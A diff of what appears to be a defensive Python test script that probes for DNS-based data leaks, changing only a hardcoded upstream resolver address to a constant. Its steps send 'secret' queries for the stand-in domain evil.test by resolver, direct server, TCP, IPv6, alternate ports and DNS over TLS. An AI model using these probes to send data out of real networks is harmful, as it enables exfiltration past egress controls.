@@ -37,8 +37,8 @@ step("the resolver, below an exact name", lambda: ask(RESOLVER, "secret.good.tes
 step("a server straight", lambda: ask("198.18.0.53", "secret-direct.evil.test"))
 step("a server straight, by TCP", lambda: ask("198.18.0.53", "secret-direct.evil.test", transport="tcp"))
 step("a server straight, over IPv6", lambda: ask("2001:2::53", "secret-direct.evil.test"))
-step("the upstream resolver straight", lambda: ask("10.0.2.3", "secret-upstream.evil.test"))
-step("the upstream resolver straight, by TCP", lambda: ask("10.0.2.3", "secret-upstream.evil.test", transport="tcp"))
+step("the upstream resolver straight", lambda: ask(UPSTREAM, "secret-upstream.evil.test"))
+step("the upstream resolver straight, by TCP", lambda: ask(UPSTREAM, "secret-upstream.evil.test", transport="tcp"))
 for port in (5300, 5353, 853, 8853):
     step(f"port {port}", lambda: udp("198.18.0.53", port, message=question("secret-port.evil.test", 1)))
 step("DNS over TLS", lambda: tcp_only("198.18.0.53", 853))
